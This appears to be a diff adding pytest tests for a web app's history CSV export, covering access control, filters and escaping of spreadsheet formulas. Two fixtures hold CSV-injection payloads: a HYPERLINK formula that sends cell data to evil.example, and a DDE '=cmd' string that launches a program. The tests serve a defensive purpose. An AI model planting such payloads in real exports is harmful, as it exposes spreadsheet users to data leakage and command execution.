@@ -1,0 +1,125 @@
+"""The history as a CSV file (/history/export.csv): the same events the page shows
+for the same filters, streamed, every cell safe to open in a spreadsheet."""
+
+from __future__ import annotations
+
+import csv
+import io
+
+import pytest
+
+from tests.factories import TeamFactory, UploadFactory
+from tests.helpers import login_url, make_user
+from tests.views.test_history import sales_and_finance_history
+from uploads import services
+from uploads.models import AuditEvent
+from uploads.views.history import safe_cell
+
+HEADER = ["time", "team", "person", "action", "description", "upload", "details"]
+
+
+@pytest.fixture
+def history(team, other_team, alice, charlie, operator):
+    return sales_and_finance_history(team, other_team, alice, charlie, operator)
+
+
+def read_csv(response) -> list[dict[str, str]]:
+    assert response.streaming
+    text = b"".join(response.streaming_content).decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(text)))
+    assert rows[0] == HEADER
+    return [dict(zip(HEADER, row, strict=True)) for row in rows[1:]]
+
+
+def test_it_sends_anonymous_visitors_to_log_in(client, db):
+    response = client.get("/history/export.csv")
+    assert response.status_code == 302
+    assert response["Location"] == login_url("/history/export.csv")
+
+
+def test_it_answers_get_only(client, alice):
+    client.force_login(alice)
+    assert client.post("/history/export.csv").status_code == 405
+
+
+def test_it_exports_the_teams_events_as_a_file(client, history, alice):
+    sales, _ = history
+    client.force_login(alice)
+    response = client.get("/history/export.csv")
+    assert response.status_code == 200
+    assert response["Content-Type"] == "text/csv; charset=utf-8"
+    assert response["Content-Disposition"].startswith('attachment; filename="history-')
+    rows = read_csv(response)
+    assert [row["description"] for row in rows] == [
+        "operator resolved: checked in AchieveIt",
+        "Sending failed: AchieveIt said 400",
+        "AchieveIt accepted job 73a0b6",
+        "alice sent 4 updates",
+        "alice checked a file (4 updates, 2 errors)",
+    ]
+    assert rows[0] == {
+        "time": "2026-03-05T12:00:00+00:00",
+        "team": "Sales",
+        "person": "operator",
+        "action": "Resolved",
+        "description": "operator resolved: checked in AchieveIt",
+        "upload": str(sales.pk),
+        "details": "checked in AchieveIt",
+    }
+    assert rows[1]["person"] == "system"
+    assert rows[2]["details"] == "job_id: 73a0b6"
+    assert rows[4]["details"] == "errors: 2; rows: 4"
+
+
+def test_the_export_follows_the_pages_filters(client, history, operator):
+    client.force_login(operator)
+    rows = read_csv(client.get("/history/export.csv?team=finance&person=charlie"))
+    assert [row["description"] for row in rows] == [
+        "charlie sent 1 update",
+        "charlie checked a file (1 update)",
+    ]
+    everything = read_csv(client.get("/history/export.csv"))
+    assert len(everything) == 8
+    assert everything[0]["team"] == ""  # a user created, in no team
+
+
+def test_a_member_cannot_export_another_teams_events(client, history, alice):
+    client.force_login(alice)
+    response = client.get("/history/export.csv?team=finance")
+    assert response.status_code == 400
+    assert "Select a valid choice" in response.content.decode()
+    assert "charlie" not in response.content.decode()
+
+
+def test_a_formula_in_a_note_comes_out_as_text(client, team, operator, failed):
+    note = '=HYPERLINK("http://evil.example/?"&A1,"Click for details")'
+    services.upload_resolve(upload=failed, user=operator, note=note)
+    client.force_login(operator)
+    rows = read_csv(client.get("/history/export.csv?action=upload.resolved"))
+    assert rows[0]["details"] == "'" + note
+    assert rows[0]["description"] == f"operator resolved: {note}"  # starts safely
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_every_cell_that_a_spreadsheet_would_run_is_quoted(start):
+    assert safe_cell(f"{start}1+1") == f"'{start}1+1"
+
+
+def test_plain_cells_are_left_alone():
+    assert safe_cell("On Track") == "On Track"
+    assert safe_cell(42) == "42"
+    assert safe_cell("") == ""
+
+
+def test_a_team_or_person_named_like_a_formula_is_quoted(client, operator):
+    team = TeamFactory(slug="sneaky", name="=cmd|' /C calc'!A0")
+    person = make_user("@sneaky", team, "uploader")
+    services.audit(
+        action=AuditEvent.Action.UPLOAD_CONFIRMED,
+        upload=UploadFactory(team=team),
+        actor=person,
+    )
+    client.force_login(operator)
+    (row,) = read_csv(client.get("/history/export.csv"))
+    assert row["team"] == "'=cmd|' /C calc'!A0"
+    assert row["person"] == "'@sneaky"
